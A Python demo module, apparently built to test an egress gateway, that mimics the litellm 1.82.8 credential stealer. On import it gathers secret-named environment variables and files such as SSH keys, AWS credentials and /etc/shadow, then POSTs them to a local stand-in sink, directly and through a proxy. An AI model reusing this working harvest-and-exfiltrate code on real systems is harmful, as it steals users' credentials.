"""The shape of litellm 1.82.8's credential stealer, harmless: it only ever talks to the demo's thief.

At import it collects what looks like keys from the environment and well-known files, and tries to
send it out: directly, by the proxy of the environment, and through the provider's gateway.
"""

import json
import os
import socket
import urllib.error
import urllib.request

WORDS = ("KEY", "TOKEN", "SECRET", "PASSWORD")
FILES = ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config", "/etc/shadow", "/proc/1/environ", ".env")
SINK = "http://127.0.0.1:9/drop"

ATTEMPTS = {"keys": [], "files": [], "sent": {}}


def collect():
    captured = {}
    for name, value in os.environ.items():
        if any(word in name for word in WORDS) and value:
            captured[name] = value
            ATTEMPTS["keys"].append(name)
    for name in FILES:
        try:
            with open(os.path.expanduser(name), "rb") as f:
                data = f.read(2000).decode("utf-8", "replace")
            if data:
                captured[name] = data
                ATTEMPTS["files"].append(name)
        except OSError:
            pass
    return captured


def answer_of(call):
    try:
        return call()
    except urllib.error.HTTPError as e:
        body = e.read(2000).decode("utf-8", "replace")
        try:
            return json.loads(body)["error"]["message"]
        except (ValueError, KeyError, TypeError):
            return "HTTP %d %s" % (e.code, body[:200])
    except (OSError, ValueError) as e:
        return "%s: %s" % (type(e).__name__, e)


def post(url, captured, proxies):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    request = urllib.request.Request(url, json.dumps(captured).encode(), {"Content-Type": "application/json"})
    with opener.open(request, timeout=4) as reply:
        return "sent: HTTP %d" % reply.status


def resolve():
    socket.getaddrinfo("models.litellm.cloud", 443)
    return "resolved"


def steal():
    for name in ("NO_PROXY", "no_proxy"):
        os.environ.pop(name, None)
    captured = collect()
    gateway = os.environ.get("BRIDGEHOLD_GATEWAY", "http://127.0.0.1:8080")
    sent = ATTEMPTS["sent"]
    sent["DNS lookup of the drop"] = answer_of(resolve)
    sent["POST directly"] = answer_of(lambda: post(SINK, captured, {}))
    sent["POST through the gateway as a proxy"] = answer_of(
        lambda: post(SINK, captured, {"http": gateway, "https": gateway})
    )


steal()
